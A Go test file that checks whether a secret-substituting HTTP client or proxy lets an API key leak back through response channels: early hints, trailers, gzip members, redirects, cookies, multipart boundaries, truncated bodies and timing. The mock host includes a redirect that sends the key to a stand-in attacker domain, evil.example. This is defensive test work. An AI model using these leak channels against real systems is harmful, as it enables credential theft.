package inspect

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"net/http"
	"net/http/httptrace"
	"net/textproto"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/pccrun/pccrun/internal/await"
)

// TestSecretElsewhere has a host that hands the secret out in places beside head and
// body: interim answers, trailers that it did not announce, the
// members of a gzip file, redirects, and what is cut short.
func TestSecretElsewhere(t *testing.T) {
	f := start(t, "api.example.com")
	f.host("api.example.com", func(w http.ResponseWriter, r *http.Request) {
		key := r.Header.Get("X-Api-Key")
		switch r.URL.Path {
		case "/hints":
			w.Header().Set("Link", "<https://x.example/"+key+">; rel=preload")
			w.WriteHeader(http.StatusEarlyHints)
			w.Header().Del("Link")
			io.WriteString(w, "hinted")
		case "/trailers":
			io.WriteString(w, "some")
			w.(http.Flusher).Flush()
			w.Header().Set(http.TrailerPrefix+"X-"+key, "1")
			w.Header().Set(http.TrailerPrefix+"X-Late", key)
		case "/members":
			w.Header().Set("Content-Encoding", "gzip")
			for i := 0; i < len(key); i += 3 {
				z := gzip.NewWriter(w)
				io.WriteString(z, key[i:min(i+3, len(key))])
				z.Close()
				w.(http.Flusher).Flush()
			}
		case "/redirect":
			http.Redirect(w, r, "https://evil.example/?k="+key+"&q="+r.URL.RawQuery, http.StatusFound)
		case "/cookie":
			http.SetCookie(w, &http.Cookie{Name: "k", Value: key})
			w.Header().Set("Www-Authenticate", `Bearer realm="`+key+`"`)
			w.WriteHeader(http.StatusUnauthorized)
		case "/multipart":
			w.Header().Set("Content-Type", "multipart/mixed; boundary="+key)
			fmt.Fprintf(w, "--%s\r\n\r\npart\r\n--%s--\r\n", key, key)
		case "/broken":
			w.Header().Set("Content-Length", "1000")
			io.WriteString(w, "head "+key+strings.Repeat(" ", 900))
			w.(http.Flusher).Flush()
			panic(http.ErrAbortHandler)
		}
	})
	f.both(func(t *testing.T, c *http.Client) {
		for _, path := range []string{"/hints", "/trailers", "/members", "/redirect", "/cookie", "/multipart", "/broken"} {
			var seen bytes.Buffer
			req, err := http.NewRequest("GET", "https://api.example.com"+path+"?k="+placeholder, nil)
			require.NoError(t, err)
			req.Header.Set("X-Api-Key", placeholder)
			req = req.WithContext(httptrace.WithClientTrace(req.Context(), &httptrace.ClientTrace{Got1xxResponse: func(code int, h textproto.MIMEHeader) error {
				fmt.Fprint(&seen, code, h)
				return nil
			}}))
			resp, err := c.Do(req)
			require.NoError(t, err)
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			fmt.Fprint(&seen, resp.Status, resp.Header, string(b), resp.Trailer)
			require.NotContains(t, strings.ToLower(seen.String()), strings.ToLower(secret), path)
			require.NotContains(t, seen.String(), secret[8:20], path)
			if path != "/hints" && path != "/trailers" {
				require.Contains(t, seen.String(), placeholder[16:], path) // a busy machine makes pauses
			}
		}
	})
}

// TestNoOracle: the host repeats what it is sent, piece by piece, and the command looks at
// which of its guesses comes late: none does.
func TestNoOracle(t *testing.T) {
	f := start(t, "api.example.com")
	f.host("api.example.com", func(w http.ResponseWriter, r *http.Request) {
		_ = http.NewResponseController(w).EnableFullDuplex()
		w.WriteHeader(200)
		w.(http.Flusher).Flush()
		b := make([]byte, 1000)
		for {
			n, err := r.Body.Read(b)
			w.Write(b[:n])
			w.(http.Flusher).Flush()
			if err != nil {
				return
			}
		}
	})
	f.both(func(t *testing.T, c *http.Client) {
		for known := range 6 {
			for _, next := range []byte{secret[8+known], '!'} {
				guess := secret[:8+known] + string([]byte{next})
				body, in := io.Pipe()
				resp, err := c.Post("https://api.example.com/", "text/plain", body)
				require.NoError(t, err)
				go io.WriteString(in, guess)
				late := time.AfterFunc(await.Patience, func() { in.CloseWithError(io.ErrClosedPipe) })
				got := make([]byte, len(guess))
				_, err = io.ReadFull(resp.Body, got)
				require.NoError(t, err, guess)
				require.True(t, late.Stop(), "%s came only with the end", guess)
				require.Equal(t, guess, string(got))
				in.Close()
				resp.Body.Close()
			}
		}
	})
}
